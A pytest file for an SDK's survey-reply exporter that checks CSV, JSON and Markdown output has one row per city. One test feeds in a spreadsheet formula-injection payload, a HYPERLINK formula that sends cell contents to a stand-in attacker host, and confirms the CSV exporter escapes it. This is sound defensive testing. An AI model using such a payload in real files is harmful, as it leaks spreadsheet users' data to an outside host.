"""Exporting a call's replies: one row per city, in CSV, JSON and Markdown."""

from __future__ import annotations

import csv
import io
import json

from tests.calls.conftest import Network, survey
from uccn_sdk.calls.export import call_export
from uccn_sdk.models import Audience
from uccn_sdk.plugins import Plugins


def test_every_format_has_one_row_per_city(network: Network) -> None:
    network.calls.create(survey(audience=Audience(cities=["lyon", "bologna"])))
    network.calls.open("survey-2026")
    network.deliver()
    post = network.post_of("survey-2026", "!lyon")
    network.calls.handle(network.message("@ana:uccn.test", "1. 4\n2. A | B @room", "$a1", post))
    network.calls.handle(network.message("@mallory:evil.test", "1. 9\n2. me", "$m1", post))
    export = call_export(network.store, "survey-2026")
    assert export is not None
    exporters = Plugins.load().exporters()

    out = io.StringIO()
    assert exporters["replies:csv"].write([export], out) == 2
    rows = {r["city"]: r for r in csv.DictReader(io.StringIO(out.getvalue()))}
    assert rows["lyon"]["answered"] == "yes" and rows["lyon"]["q1"] == "4"
    assert rows["bologna"]["answered"] == "no" and rows["bologna"]["q2"] == ""

    out = io.StringIO()
    exporters["replies:json"].write([export], out)
    document = json.loads(out.getvalue())
    assert document["call"]["id"] == "survey-2026"
    assert [r["city"] for r in document["replies"]] == ["bologna", "lyon"]
    assert type(document["replies"][1]["q1"]) is int

    out = io.StringIO()
    exporters["replies:md"].write([export], out)
    markdown = out.getvalue()
    assert "1 of 2 cities answered" in markdown
    assert "| Lyon | FR | literature | 4 | A \\| B @\u200broom |" in markdown
    assert "| Bologna | IT | music |  |  | *no answer* |" in markdown
    assert markdown.endswith("\n1 answer from people not linked to a city.\n")


def test_a_csv_export_does_not_let_an_answer_run_as_a_formula(network: Network) -> None:
    network.calls.create(survey(audience=Audience(cities=["lyon"])))
    network.calls.open("survey-2026")
    network.deliver()
    post = network.post_of("survey-2026", "!lyon")
    formula = '1. -2\n2. =HYPERLINK("http://evil.example/?"&A1,"Click")'
    network.calls.handle(network.message("@ana:uccn.test", formula, "$a1", post))
    export = call_export(network.store, "survey-2026")
    assert export is not None
    out = io.StringIO()
    Plugins.load().exporters()["replies:csv"].write([export], out)
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    # A spreadsheet opening the file shows the answer as text; it does not run it.
    assert row["q2"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert row["q1"] == "-2"  # a number stays a number


def test_an_unknown_call_exports_nothing(network: Network) -> None:
    assert call_export(network.store, "nope") is None
